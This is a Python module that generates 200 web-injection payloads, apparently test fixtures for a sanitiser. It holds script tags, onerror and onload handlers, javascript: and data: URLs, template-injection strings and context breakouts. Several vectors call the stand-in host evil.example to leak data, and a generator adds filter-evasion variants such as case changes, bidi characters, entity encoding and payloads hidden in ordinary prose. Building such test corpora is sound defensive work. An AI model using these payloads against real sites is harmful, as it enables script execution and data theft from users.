"""Two hundred pieces of text that would run or call out if anybody took them for markup, style, a link or a template.

They are made from a few dozen vectors in our own words and the ways in which filters are usually passed: case, white
space, encodings, breaking out of a context, hiding in other text.
"""

import random
from collections.abc import Iterator

SEED = 20261126
_RUN = "window.pwned=1"
_AWAY = "https://evil.example/?leak=1"
_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>'></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}>",
    f"<a href='javascript:{_RUN}'>open</a>",
    f"<form action={_AWAY}><button>send</button></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video src=x onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<link rel=stylesheet href={_AWAY}>",
    f"<link rel=prefetch href={_AWAY}>",
    f"<style>@import '{_AWAY}'</style>",
    f"<style>body{{background:url({_AWAY})}}</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<base href={_AWAY}>",
    f"<portico-chat base-url={_AWAY} open></portico-chat>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<noscript><img src=x onerror={_RUN}></noscript>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>opener.{_RUN[7:]}</script>",
    f"vbscript:{_RUN}",
    _AWAY,
    f"//evil.example/{_RUN}",
    f"![x]({_AWAY})",
    f"[x](javascript:{_RUN})",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<%= {_RUN} %>",
    "__proto__",
    "constructor",
    "</textarea></title></style></script>",
)


def _ways(vector: str) -> Iterator[str]:
    """Give a vector as it is and in the ways that pass a filter."""
    yield vector
    yield vector.upper().replace("WINDOW.PWNED", "window.pwned")
    yield f'">{vector}'
    yield f"]]>--></title>{vector}"
    yield f"\u202e\ufeff{vector}\u2066"
    yield f"Take one tablet a day. {vector} Ask your pharmacist."
    yield vector.replace("<", "&lt;")
    yield vector.replace("=", "\t=\n")


def _make() -> tuple[str, ...]:
    every = sorted({way for vector in _VECTORS for way in _ways(vector)})
    first = list(dict.fromkeys(_VECTORS))
    others = [way for way in every if way not in first]
    random.Random(SEED).shuffle(others)
    return tuple([*first, *others][:200])


PAYLOADS = _make()
